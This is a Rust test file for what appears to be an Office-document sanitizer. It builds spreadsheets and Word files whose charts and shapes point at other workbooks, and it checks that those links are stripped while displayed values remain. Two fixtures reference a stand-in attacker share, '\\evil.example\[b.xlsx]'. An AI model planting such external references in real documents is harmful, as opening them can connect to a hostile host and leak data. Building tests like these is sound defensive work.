//! The danger matrix: charts and shapes of Excel over other workbooks (OOX-X04).

use super::cases_excel::{case, file};
use super::excel::{SHEET, workbook};
use super::package::{AV, Package};
use crate::matrix::{Case, Expect, Shape};

const C: &str = "xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:c15=\"http://schemas.microsoft.com/office/drawing/2012/chart\"";
const XDR: &str = "xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:a14=\"http://schemas.microsoft.com/office/drawing/2010/main\"";

/// A workbook with a drawing on its sheet.
fn drawn(anchor: &str) -> Package {
    workbook("", "", "<drawing r:id=\"rIdD\"/>")
        .rel(SHEET, "rIdD", "drawing", "../drawings/drawing1.xml")
        .part("xl/drawings/drawing1.xml", &format!("{AV}drawing+xml"), format!("<xdr:wsDr {XDR}><xdr:absoluteAnchor><xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"1\" cy=\"1\"/>{anchor}<xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"))
}

/// A workbook with a chart that holds this.
pub(super) fn charted(head: &str, plot: &str) -> Package {
    drawn("<xdr:graphicFrame macro=\"\"><xdr:nvGraphicFramePr><xdr:cNvPr id=\"2\" name=\"グラフ 1\"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"0\" cy=\"0\"/></xdr:xfrm><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"><c:chart r:id=\"rId1\"/></a:graphicData></a:graphic></xdr:graphicFrame>")
        .rel("xl/drawings/drawing1.xml", "rId1", "chart", "../charts/chart1.xml")
        .part("xl/charts/chart1.xml", &format!("{AV}drawingml.chart+xml"), format!("<c:chartSpace {C}>{head}<c:chart><c:title><c:tx><c:strRef><c:f>[1]S!$Z$1</c:f><c:strCache><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>残る題</c:v></c:pt></c:strCache></c:strRef></c:tx></c:title><c:plotArea><c:layout/>{plot}</c:plotArea></c:chart></c:chartSpace>"))
}

const SERIES: &str = "<c:barChart><c:barDir val=\"col\"/><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:tx><c:strRef><c:f>[1]S!$B$1</c:f><c:strCache><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>残る系列</c:v></c:pt></c:strCache></c:strRef></c:tx><c:cat><c:multiLvlStrRef><c:f>[1]S!$A$2:$B$3</c:f><c:multiLvlStrCache><c:ptCount val=\"2\"/><c:lvl><c:pt idx=\"0\"><c:v>4月</c:v></c:pt><c:pt idx=\"1\"><c:v>5月</c:v></c:pt></c:lvl><c:lvl><c:pt idx=\"0\"><c:v>上期</c:v></c:pt></c:lvl></c:multiLvlStrCache></c:multiLvlStrRef></c:cat><c:val><c:numRef><c:f>'\\\\evil.example\\[b.xlsx]S'!$C$2:$C$3</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>12</c:v></c:pt><c:pt idx=\"1\"><c:v>34</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:barChart>";

/// A workbook with a chart of the newer kind over this data.
fn newer(data: &str, plot: &str) -> Package {
    drawn("<xdr:graphicFrame macro=\"\"><xdr:nvGraphicFramePr><xdr:cNvPr id=\"2\" name=\"グラフ 1\"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"0\" cy=\"0\"/></xdr:xfrm><a:graphic><a:graphicData uri=\"http://schemas.microsoft.com/office/drawing/2014/chartex\"><cx:chart xmlns:cx=\"http://schemas.microsoft.com/office/drawing/2014/chartex\" r:id=\"rId1\"/></a:graphicData></a:graphic></xdr:graphicFrame>")
        .rel("xl/drawings/drawing1.xml", "rId1", "http://schemas.microsoft.com/office/2014/relationships/chartEx", "../charts/chartEx1.xml")
        .part("xl/charts/chartEx1.xml", "application/vnd.ms-office.chartex+xml", format!("<cx:chartSpace xmlns:cx=\"http://schemas.microsoft.com/office/drawing/2014/chartex\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><cx:chartData>{data}</cx:chartData><cx:chart><cx:plotArea><cx:plotAreaRegion>{plot}</cx:plotAreaRegion></cx:plotArea></cx:chart></cx:chartSpace>"))
}

/// A Word document with a chart over this reference.
fn word_chart(reference: &str) -> Package {
    let frame = "<w:p><w:r><w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\"><wp:extent cx=\"1\" cy=\"1\"/><wp:docPr id=\"1\" name=\"グラフ 1\"/><a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"><c:chart xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rIdC\"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
    super::word::document(frame)
        .rel("word/document.xml", "rIdC", "chart", "charts/chart1.xml")
        .part("word/charts/chart1.xml", &format!("{AV}drawingml.chart+xml"), format!("<c:chartSpace {C}><c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val=\"col\"/><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:val><c:numRef><c:f>{reference}</c:f><c:numCache><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>12</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>"))
}

/// The cases.
pub(super) fn cases() -> Vec<Case> {
    use Expect::Reported;
    vec![
        case!(
            "OOX-X04",
            Disguised,
            "a chart over another workbook keeps what it shows",
            Reported("office.external-book"),
            "chart.xlsx",
            charted("", SERIES),
            ["<c:f>", "Ref>", "evil.example", "上期", "Cache"],
            [
                "<c:tx><c:rich><a:bodyPr/><a:p><a:r><a:t>残る題</a:t></a:r></a:p></c:rich></c:tx>",
                "<c:tx><c:v>残る系列</c:v></c:tx>",
                "<c:cat><c:strLit><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>4月</c:v></c:pt><c:pt idx=\"1\"><c:v>5月</c:v></c:pt></c:strLit></c:cat>",
                "<c:val><c:numLit><c:formatCode>General</c:formatCode><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>12</c:v></c:pt><c:pt idx=\"1\"><c:v>34</c:v></c:pt></c:numLit></c:val>"
            ]
        ),
        case!(
            "OOX-X04",
            Disguised,
            "a series of which nothing is known goes; a stock chart of two lines is a line chart",
            Reported("office.external-book"),
            "stock.xlsx",
            charted(
                "",
                "<c:stockChart><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:val><c:numRef><c:f>[1]S!$A$1</c:f></c:numRef></c:val></c:ser><c:ser><c:idx val=\"1\"/><c:order val=\"1\"/><c:val><c:numRef><c:f>集計!$B$1</c:f></c:numRef></c:val></c:ser><c:ser><c:idx val=\"2\"/><c:order val=\"2\"/><c:val><c:numRef><c:f>集計!$C$1</c:f></c:numRef></c:val></c:ser><c:axId val=\"1\"/><c:axId val=\"2\"/></c:stockChart>"
            ),
            ["[1]", "stockChart", "<c:idx val=\"0\"/>"],
            ["<c:lineChart><c:grouping val=\"standard\"/><c:ser><c:idx val=\"1\"/>", "集計!$C$1"]
        ),
        case!(
            "OOX-X04",
            Disguised,
            "in extensions of a chart",
            Reported("office.external-book"),
            "extensions.xlsx",
            charted(
                "",
                "<c:barChart><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:val><c:numRef><c:f>集計!$C$1</c:f></c:numRef></c:val><c:extLst><c:ext uri=\"{02D57815-91ED-43cb-92C2-25804820EDAC}\"><c15:datalabelsRange><c15:f>[1]S!$A$1</c15:f></c15:datalabelsRange></c:ext></c:extLst></c:ser><c:extLst><c:ext uri=\"{02D57815-91ED-43cb-92C2-25804820EDAC}\"><c15:filteredBarSeries><c15:ser><c:idx val=\"9\"/><c:val><c:numRef><c:extLst><c:ext uri=\"{02D57815-91ED-43cb-92C2-25804820EDAC}\"><c15:formulaRef><c15:sqref>[1]S!$A$1</c15:sqref></c15:formulaRef></c:ext></c:extLst></c:numRef></c:val></c15:ser></c15:filteredBarSeries></c:ext></c:extLst></c:barChart>"
            ),
            ["[1]", "extLst", "filtered"],
            ["<c:val><c:numRef><c:f>集計!$C$1</c:f></c:numRef></c:val>"]
        ),
        case!(
            "OOX-X04",
            Disguised,
            "the text of a shape and the range of a camera",
            Reported("office.external-book"),
            "shape.xlsx",
            drawn(
                "<xdr:sp macro=\"\" textlink=\"[1]S!$A$1\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"残る図形\"/><xdr:cNvSpPr><a:extLst><a:ext uri=\"{84589F7E-364E-4C9E-8A38-B11213B215E9}\"><a14:cameraTool cellRange=\"[1]S!$A$1:$B$2\" spid=\"_x0000_s1025\"/></a:ext></a:extLst></xdr:cNvSpPr></xdr:nvSpPr><xdr:spPr/></xdr:sp>"
            ),
            ["[1]", "cameraTool", "extLst"],
            ["残る図形"]
        ),
        case!(
            "OOX-X04",
            Disguised,
            "a chart of the newer kind: values that are shown stay, a series over nothing goes",
            Reported("office.external-book"),
            "newer.xlsx",
            newer(
                "<cx:data id=\"0\"><cx:numDim type=\"val\"><cx:f>[1]S!$A$1:$A$2</cx:f><cx:nf>[1]S!$A$0</cx:nf><cx:lvl ptCount=\"1\"><cx:pt idx=\"0\">12</cx:pt></cx:lvl></cx:numDim></cx:data><cx:data id=\"1\"><cx:numDim type=\"val\"><cx:f>[1]S!$B$1</cx:f></cx:numDim></cx:data>",
                "<cx:series layoutId=\"waterfall\" uniqueId=\"{1}\"><cx:tx><cx:txData><cx:f>[1]S!$C$1</cx:f><cx:v>残る系列</cx:v></cx:txData></cx:tx><cx:dataId val=\"0\"/></cx:series><cx:series layoutId=\"waterfall\" uniqueId=\"{2}\"><cx:dataId val=\"1\"/></cx:series>"
            ),
            ["[1]", "{2}", "cx:data id=\"1\""],
            [
                "<cx:numDim type=\"val\"><cx:lvl ptCount=\"1\"><cx:pt idx=\"0\">12</cx:pt></cx:lvl></cx:numDim>",
                "<cx:txData><cx:v>残る系列</cx:v></cx:txData>"
            ]
        ),
        case!(
            "OOX-X04",
            Disguised,
            "a chart in a document that names a file elsewhere",
            Reported("office.external-book"),
            "path.docx",
            word_chart("'\\\\evil.example\\[b.xlsx]S'!$A$1"),
            ["evil.example", "numRef"],
            ["<c:numLit><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>12</c:v></c:pt></c:numLit>"]
        ),
        case!(
            "OOX-X04",
            Neighbour,
            "a chart in a document names cells of the book that was behind it",
            Expect::Untouched,
            "own.docx",
            word_chart("[Book1.xlsx]Sheet1!$B$2"),
            [],
            ["<c:f>[Book1.xlsx]Sheet1!$B$2</c:f>"]
        ),
        case!(
            "OOX-X04",
            Neighbour,
            "a chart and a shape over this workbook",
            Expect::Without("office.dde"),
            "own.xlsx",
            charted(
                "",
                "<c:barChart><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:val><c:numRef><c:f>[0]!売上</c:f><c:numCache><c:ptCount val=\"1\"/></c:numCache></c:numRef></c:val></c:ser><c:ser><c:idx val=\"1\"/><c:order val=\"1\"/><c:val><c:numRef><c:f>'年 度'!$A$1:$A$3</c:f></c:numRef></c:val></c:ser></c:barChart>"
            ),
            [],
            ["<c:f>[0]!売上</c:f><c:numCache>", "<c:f>'年 度'!$A$1:$A$3</c:f>"]
        ),
    ]
}
